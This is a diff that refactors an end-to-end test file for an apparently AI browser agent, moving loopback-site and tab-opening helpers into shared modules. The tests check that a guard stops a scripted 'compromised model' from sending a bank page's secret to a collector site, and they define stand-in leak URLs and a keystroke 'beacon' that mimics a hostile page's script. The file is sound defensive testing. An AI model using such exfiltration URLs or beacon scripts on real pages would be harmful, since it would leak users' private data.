@@ -7,8 +7,6 @@
  *
  * The benign half: everyday work across sites asks nothing.
  */
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { BrowserContext, Page } from '@playwright/test';
 import { test, expect, panelRequest, stopServiceWorker } from './support/fixtures.ts';
 import { connectToFakeApi, conversation, E2E_LOCAL_HOSTS, events, send, waitForStatus } from './support/agent.ts';
@@ -16,49 +14,10 @@ import { refIn } from './page-tools.helpers.ts';
 import type { RecordedRequest, ScriptedCall, Turn } from '../test/support/fake-api/turns.ts';
 import type { FakeApi } from '../test/support/fake-api/index.ts';
 import { startMcpServer, type RunningMcpServer } from '../test/support/mcp-server/index.ts';
+import { openTab } from './support/tabs.ts';
+import { html, startSite, type LoopbackSite } from './support/loopbackSite.ts';
 
 const SECRET = 'ACCT-7731-QX-SECRET';
-
-interface Site {
-  origin: string;
-  host: string;
-  hits: { path: string; body: string }[];
-  close(): Promise<void>;
-}
-
-/**
- * A loopback site serving `pages(path)` and recording every request it gets (path with query, and body). A path
- * `pages` maps to null is recorded and never answered (a page that takes forever to load).
- */
-async function startSite(pages: (path: string) => string | undefined | null): Promise<Site> {
-  const hits: Site['hits'] = [];
-  const server = http.createServer((req, res) => {
-    let body = '';
-    req.on('data', (c: Buffer) => (body += c.toString()));
-    req.on('end', () => {
-      hits.push({ path: req.url ?? '/', body });
-      const page = pages(new URL(req.url ?? '/', 'http://x').pathname);
-      if (page === null) return;
-      if (page === undefined) res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
-      else res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(page);
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  const { port } = server.address() as AddressInfo;
-  return {
-    origin: `http://127.0.0.1:${port}`,
-    host: `127.0.0.1:${port}`,
-    hits,
-    close: () =>
-      new Promise<void>((resolve) => {
-        server.closeAllConnections();
-        server.close(() => resolve());
-      }),
-  };
-}
-
-const html = (title: string, body: string) =>
-  `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
 
 /** Sends the value of a field to `to` on every keystroke, the way a hostile page's script would. */
 const beacon = (field: string, to: string) =>
@@ -76,10 +35,10 @@ const ORDERS_PAGE = () =>
      <script>let placed = 0; document.getElementById('place').addEventListener('click', () => { placed++; document.getElementById('placed').textContent = String(placed); fetch('/order', { method: 'POST', body: String(placed) }); });</script>`,
   );
 
-let secret: Site;
-let hostile: Site;
-let collector: Site;
-let shop: Site;
+let secret: LoopbackSite;
+let hostile: LoopbackSite;
+let collector: LoopbackSite;
+let shop: LoopbackSite;
 let mcp: RunningMcpServer;
 
 test.beforeAll(async () => {
@@ -147,16 +106,6 @@ function reading(match: RegExp, calls: (outputs: string[]) => ScriptedCall[]): T
   return turn;
 }
 
-async function openTab(panel: Page, url: string): Promise<{ page: Page; tabId: number }> {
-  const page = await panel.context().newPage();
-  await page.goto(url);
-  const tabId = await panel.evaluate(
-    async (u) => (await chrome.tabs.query({})).find((t) => t.url === u)!.id!,
-    page.url(),
-  );
-  return { page, tabId };
-}
-
 interface FlowApproval {
   callId: string;
   name: string;
@@ -176,8 +125,8 @@ test('a compromised model cannot carry the bank page’s data to another site th
     // The sites are loopback servers: allowed as the user's own hosts (#31), so the flow is the only question.
     yaml: `agent:\n  base_url: ${fakeApi.url}\n  model: gpt-test\n  mode: both\ntabs:\n  scope: all\nservers:\n  notes: {url: "${mcp.url}"}\n${E2E_LOCAL_HOSTS}`,
   });
-  const bank = await openTab(panel, `${secret.origin}/account`);
-  const blog = await openTab(panel, `${hostile.origin}/post`);
+  const bank = await openTab(panel.context(), panel, `${secret.origin}/account`);
+  const blog = await openTab(panel.context(), panel, `${hostile.origin}/post`);
   await blog.page.locator('iframe').contentFrame().locator('#fq').waitFor();
   const C = collector.origin;
   const leak = `${C}/collect?d=${SECRET}`;
@@ -319,7 +268,7 @@ test('everyday work across sites asks nothing: todos in a Vue app, a search with
   await connectToFakeApi(panel, fakeApi, { yaml: 'tabs:\n  scope: all\n' });
 
   // 1. Add todos in a framework app: Enter in a field outside any form is no submission.
-  const todo = await openTab(panel, `${pages.origin}/apps/vue.html`);
+  const todo = await openTab(panel.context(), panel, `${pages.origin}/apps/vue.html`);
   fakeApi.script([
     { match: 'Add two todos', calls: [{ name: 'dom__snapshot', arguments: {} }] },
     reading(/Vue todos/, (o) => {
@@ -353,7 +302,7 @@ test('everyday work across sites asks nothing: todos in a Vue app, a search with
   await expect(todo.page.locator('#results')).toHaveText('Results for blue widgets');
 
   // 3. Follow a link read from the page (to another site).
-  const links = await openTab(panel, `${pages.origin}/frames.html`);
+  const links = await openTab(panel.context(), panel, `${pages.origin}/frames.html`);
   await links.page.evaluate((href) => {
     const a = document.createElement('a');
     a.href = href;
@@ -402,7 +351,7 @@ test('the panel’s card names the flow and what would leave; allow once lets ex
   fakeApi,
 }) => {
   await connectToFakeApi(panel, fakeApi, { yaml: 'tabs:\n  scope: all\n' });
-  const bank = await openTab(panel, `${secret.origin}/account`);
+  const bank = await openTab(panel.context(), panel, `${secret.origin}/account`);
   const target = `${collector.origin}/ok?d=${SECRET}`;
   fakeApi.script([
     { match: 'Send my account number', calls: [{ name: 'dom__text', arguments: { tab_id: bank.tabId } }] },
@@ -443,8 +392,8 @@ test('code mode: a program step that both the action rule and the flow rule ask 
 }) => {
   test.setTimeout(120_000);
   await connectToFakeApi(panel, fakeApi, { yaml: '  mode: code\ntabs:\n  scope: all\n' });
-  const bank = await openTab(panel, `${secret.origin}/account`);
-  const blog = await openTab(panel, `${hostile.origin}/post`);
+  const bank = await openTab(panel.context(), panel, `${secret.origin}/account`);
+  const blog = await openTab(panel.context(), panel, `${hostile.origin}/post`);
   // A submit (the target rule asks) on the blog, once the bank's text is in the model's context (the guard asks).
   const submit = `dom.click(tab_id=${blog.tabId}, selector="#f button")`;
   fakeApi.script([
@@ -520,8 +469,8 @@ test('code mode: a program step only the flow rule asks about gets ONE inline ca
 }) => {
   test.setTimeout(120_000);
   await connectToFakeApi(panel, fakeApi, { yaml: '  mode: code\ntabs:\n  scope: all\n' });
-  const bank = await openTab(panel, `${secret.origin}/account`);
-  const scratch = await openTab(panel, `${shop.origin}/article.html`);
+  const bank = await openTab(panel.context(), panel, `${secret.origin}/account`);
+  const scratch = await openTab(panel.context(), panel, `${shop.origin}/article.html`);
   const leak = `${collector.origin}/collect?d=${SECRET}`;
   const sinkHits = () => collector.hits.filter((h) => h.path.startsWith('/collect')).length;
   // web.fetch to the collector asks nothing of the action rule (a read, on a host the user named as their own): only
@@ -627,7 +576,7 @@ async function stoppedAndRunAgain(
 ): Promise<{ read: string; orders: number; landings: number; cards: number }> {
   const yaml = `  mode: code\ntabs:\n  scope: all\napprovals:\n  local_hosts: [127.0.0.1, localhost]\n  allowed_origins: ["${secret.origin}"]\n`;
   await connectToFakeApi(panel, fakeApi, { yaml });
-  const orders = await openTab(panel, `${secret.origin}/orders`);
+  const orders = await openTab(panel.context(), panel, `${secret.origin}/orders`);
   // Counted from here: the sites live for the whole file.
   const [bankFrom, collectorFrom] = [secret.hits.length, collector.hits.length];
   const placedOrders = () => secret.hits.slice(bankFrom).filter((h) => h.path === '/order').length;
@@ -754,7 +703,7 @@ test('code mode: a program cut short by the worker stopping — the model reads 
   test.setTimeout(120_000);
   const yaml = `  mode: code\ntabs:\n  scope: all\napprovals:\n  local_hosts: [127.0.0.1, localhost]\n  allowed_origins: ["${secret.origin}"]\n`;
   await connectToFakeApi(panel, fakeApi, { yaml });
-  const orders = await openTab(panel, `${secret.origin}/orders`);
+  const orders = await openTab(panel.context(), panel, `${secret.origin}/orders`);
   const from = secret.hits.length;
   const hits = (path: string) => secret.hits.slice(from).filter((h) => h.path === path).length;
   const tab = orders.tabId;
